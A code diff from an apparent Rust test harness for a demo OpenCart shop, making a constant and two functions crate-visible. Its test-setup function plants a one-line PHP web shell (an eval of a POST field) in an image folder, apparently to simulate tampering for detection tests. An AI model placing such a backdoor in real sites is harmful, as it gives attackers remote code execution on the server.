@@ -9,7 +9,7 @@ use super::harness::Scene;
 use super::restore_shop::{backup, scene, sql};
 
 /// What the demo shop lacks of OpenCart, and what the edits change.
-const BEFORE: &[&str] = &[
+pub(crate) const BEFORE: &[&str] = &[
     "CREATE TABLE `oc_user_group` (user_group_id int NOT NULL AUTO_INCREMENT, name varchar(64), permission text, PRIMARY KEY (user_group_id))",
     "INSERT INTO `oc_user_group` (name, permission) VALUES ('Administrator', '{\"access\":[\"catalog/product\"]}'), \
      ('Packer', '{\"access\":[\"sale/order\"],\"modify\":[]}')",
@@ -74,7 +74,7 @@ const EXPECTED: [&str; 12] = [
 ];
 
 /// Each difference in a few words.
-fn told(document: &Value) -> Vec<String> {
+pub(crate) fn told(document: &Value) -> Vec<String> {
     let line = |difference: &Value| {
         let words = ["difference", "group", "kind", "table", "path", "name", "label"];
         let words = words.iter().filter_map(|word| difference[*word].as_str()).filter(|word| *word != "file");
@@ -93,7 +93,7 @@ fn items(document: &Value) -> Vec<String> {
     items
 }
 
-fn plant(scene: &Scene) {
+pub(crate) fn plant(scene: &Scene) {
     let root = scene.shop.root();
     sql(scene, EDITS);
     fs::write(root.join("image/catalog/thumbs.php"), "<?php @eval($_POST['x']);").unwrap();
